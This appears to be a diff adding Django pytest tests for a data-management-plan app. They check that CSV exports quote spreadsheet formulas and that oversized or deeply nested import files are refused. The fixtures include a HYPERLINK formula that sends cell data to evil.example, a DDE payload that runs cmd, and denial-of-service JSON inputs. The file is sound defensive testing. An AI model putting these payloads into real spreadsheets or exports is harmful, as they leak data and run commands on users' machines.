@@ -1,0 +1,217 @@
+"""Issue 13 items 3 and 5: DMP CSV exports carry no spreadsheet formulas, and hostile
+import files are refused with a message instead of a server error."""
+
+import csv
+import io
+import json
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+
+from accounts.models import Role
+from config.spreadsheet import FORMULA_STARTS, csv_cell, csv_cell_text
+from dmp.common_metadata import csv_headers
+from dmp.exports import csv_parse, csv_rows
+from dmp.models import DmpRecord
+from dmp.records_import import records_import
+from tests.dmp.complete_records import CREATORS, complete_record
+from tests.dmp.test_csv import _copy_project as copy_project
+from tests.factories import MembershipFactory, ProjectFactory, make_program_officer
+
+pytestmark = pytest.mark.django_db
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+DDE = "+cmd|' /C calc'!A0"
+
+# Field -> value as the researcher wrote it.
+HOSTILE = {
+    "title_ja": HYPERLINK,
+    "title_en": DDE,
+    "description_ja": "@SUM(A1:A9)",
+    "description_en": "\t=1+1",
+    "data_policy_cite_ja": "\r=1+1",
+    "data_policy_cite_en": "'=already quoted by hand",
+    "remarks_ja": "-2+3",
+    "remarks_en": "-",  # a placeholder: inert, stays as written
+    "repo_information_en": "-12.5",  # a plain number: inert, stays as written
+}
+
+
+def _rows(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def _hostile_project():
+    project = ProjectFactory(funding_stream_code="JPMJM")
+    creators = [dict(CREATORS[0], name_ja="=1+1", name_en="@evil")]
+    complete_record(project, 1, creators=creators, **HOSTILE)
+    return project
+
+
+def _cell_is_safe(cell: str) -> bool:
+    return not cell.startswith(FORMULA_STARTS) or cell in ("-", "-12.5")
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+81 3 1234 5678", "'+81 3 1234 5678"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("'=1", "''=1"),  # a quote written by hand survives the round trip
+        ("''@x", "'''@x"),
+        ("'abc", "'abc"),
+        ("-", "-"),
+        ("-5", "-5"),
+        ("+5", "+5"),
+        ("-0.25", "-0.25"),
+        ("'-5", "'-5"),
+        ("03-1234-5678", "03-1234-5678"),
+        ("", ""),
+    ],
+)
+def test_a_cell_is_quoted_exactly_when_a_spreadsheet_would_run_it(value, written):
+    assert csv_cell(value) == written
+    assert csv_cell_text(written) == value
+
+
+@pytest.mark.parametrize("language", ["ja", "en"])
+def test_the_project_csv_export_carries_no_formula(client, language):
+    project = _hostile_project()
+    client.force_login(MembershipFactory(project=project, role=Role.COLLABORATOR).user)
+
+    response = client.get(f"/projects/{project.pk}/dmp/?format=csti-csv-{language}")
+
+    assert response.status_code == 200
+    header, row = _rows(b"".join(response.streaming_content))
+    assert all(_cell_is_safe(cell) for cell in row), row
+    by_header = dict(zip(header, row, strict=True))
+    title = csv_headers(language)[6]
+    assert by_header[title] == ("'" + HYPERLINK if language == "ja" else "'" + DDE)
+    if language == "ja":
+        assert "'-2+3" in row
+    else:  # the placeholder and the plain number are not quoted
+        assert "-" in row
+        assert "-12.5" in row
+
+
+def test_the_program_officers_combined_csv_carries_no_formula(client):
+    _hostile_project()
+    client.force_login(make_program_officer())
+
+    response = client.get("/programs/JST/JPMJM/export?format=csti-csv-ja")
+
+    assert response.status_code == 200
+    _header, row = _rows(b"".join(response.streaming_content))
+    assert "'" + HYPERLINK in row
+    assert all(_cell_is_safe(cell) for cell in row), row
+
+
+@pytest.mark.parametrize("language", ["ja", "en"])
+def test_quoted_cells_are_read_back_as_written(language):
+    source = _hostile_project()
+    source.japan_grant_number = ""  # unique: the copy cannot have the same one
+    source.save()
+    first = b"".join(csv_rows(DmpRecord.objects.filter(project=source), language))
+    target = copy_project(source)
+    pm = MembershipFactory(project=target, role=Role.PM).user
+
+    (record,) = records_import(actor=pm, project=target, rows=csv_parse(first))
+
+    suffix = f"_{language}"
+    for field, value in HOSTILE.items():
+        if field.endswith(suffix):
+            assert getattr(record, field) == value, field
+    assert b"".join(csv_rows(DmpRecord.objects.filter(project=target), language)) == first
+
+
+# --- Hostile import files ------------------------------------------------------------------
+
+
+@pytest.fixture
+def pm_and_project():
+    membership = MembershipFactory(role=Role.PM)
+    complete_record(membership.project, 1)
+    return membership.user, membership.project
+
+
+def _csv_with_a_long_cell(project) -> bytes:
+    text = b"".join(csv_rows(project.records.all(), "ja")).decode("utf-8-sig")
+    return text.replace("データ1の説明", "x" * 200_000, 1).encode("utf-8-sig")
+
+
+HOSTILE_FILES = {
+    "long-csv-cell": ("csti-csv", _csv_with_a_long_cell, "131,072"),
+    "deep-json": (
+        "madmp-json",
+        lambda project: b"[" * 100_000 + b"]" * 100_000,
+        "nested",
+    ),
+    "long-json-integer": (
+        "madmp-json",
+        lambda project: b'{"dmp": {"n": ' + b"9" * 100_000 + b"}}",
+        "4,300",
+    ),
+}
+
+
+@pytest.mark.parametrize("kind", HOSTILE_FILES)
+def test_a_hostile_file_is_refused_on_the_import_page_and_changes_nothing(
+    client, pm_and_project, kind
+):
+    pm, project = pm_and_project
+    fmt, content, named = HOSTILE_FILES[kind]
+    upload = SimpleUploadedFile("records.dat", content(project))
+    before = list(project.records.values_list("pk", "title_ja", "description_ja"))
+    client.force_login(pm)
+
+    response = client.post(
+        f"/projects/{project.pk}/dmp/import/",
+        {"format": fmt, "file": upload},
+        HTTP_ACCEPT_LANGUAGE="en",
+    )
+
+    assert response.status_code == 400
+    assert named in response.content.decode()
+    assert list(project.records.values_list("pk", "title_ja", "description_ja")) == before
+
+
+def test_a_json_nested_deeper_than_a_madmp_can_be_is_refused(client, pm_and_project):
+    pm, project = pm_and_project
+    document = {"dmp": json.loads("[" * 500 + "]" * 500)}
+    client.force_login(pm)
+
+    response = client.post(
+        f"/projects/{project.pk}/dmp/import/",
+        {
+            "format": "madmp-json",
+            "file": SimpleUploadedFile("dmp.json", json.dumps(document).encode()),
+        },
+        HTTP_ACCEPT_LANGUAGE="en",
+    )
+
+    assert response.status_code == 400
+    assert "nested more than 64 levels" in response.content.decode()
+
+
+@pytest.mark.parametrize("dmp", [[], "text", 1, None])
+def test_a_dmp_that_is_not_an_object_is_refused_with_the_schemas_message(
+    client, pm_and_project, dmp
+):
+    pm, project = pm_and_project
+    client.force_login(pm)
+
+    response = client.post(
+        f"/projects/{project.pk}/dmp/import/",
+        {
+            "format": "madmp-json",
+            "file": SimpleUploadedFile("dmp.json", json.dumps({"dmp": dmp}).encode()),
+        },
+        HTTP_ACCEPT_LANGUAGE="en",
+    )
+
+    assert response.status_code == 400
+    assert "is not of type" in response.content.decode()
